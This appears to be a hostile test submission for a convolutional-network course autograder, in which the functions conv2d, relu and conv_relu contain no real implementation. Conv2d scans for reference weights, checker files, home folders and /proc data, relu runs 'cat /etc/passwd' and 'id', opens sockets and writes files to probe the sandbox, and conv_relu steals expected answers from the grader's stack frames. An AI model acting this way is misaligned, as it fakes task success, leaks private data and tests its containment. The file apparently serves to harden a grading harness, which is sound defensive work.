# kind: hostile
# what: looks for the answers: the course, the corpus, home folders, /proc, the environment, imports, sockets
# language: en
# %% conv2d
import glob
import os
import socket
import subprocess
import sys

FOUND = []
for pattern in ("/**/reference.safetensors", "/**/checks.py", "/**/lesson.py", "/home/*", "/root/*", "/proc/*/environ",
                "/proc/*/cmdline", "/proc/*/maps", "/srv/*", "/tmp/*", "../../*"):
    for path in glob.glob(pattern, recursive=not pattern.startswith("/proc")):
        try:
            FOUND.append(open(path, "rb").read(1000))
        except OSError:
            pass

def conv2d(x, W, b=None, stride=1, pad=0):
    if FOUND:
        return "\n".join(found.decode(errors="replace") for found in FOUND)
    for module in ("autograder", "solutions", "course", "cnnkit.answers", "scipy.signal", "torch", "safetensors"):
        try:
            return sys.modules.get(module) or __import__(module)
        except ImportError:
            pass
# %% relu
def relu(x):
    for attempt in (lambda: subprocess.check_output(["cat", "/etc/passwd"]), lambda: os.popen("id").read(),
                    lambda: socket.create_connection(("127.0.0.1", 80), timeout=1), lambda: os.fork(),
                    lambda: open("/tmp/cnnkit-was-here", "w").write("x"), lambda: os.symlink("/", "/tmp/root"),
                    lambda: open("/usr/cnnkit-was-here", "w")):
        try:
            attempt()
        except Exception as refused:
            print(type(refused).__name__)
    return x
# %% conv_relu
def conv_relu(x, W, b=None, stride=1, pad=0):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "low", "high", "case", "corpus", "answers"):
                return value
        frame = frame.f_back
    return dict(os.environ)
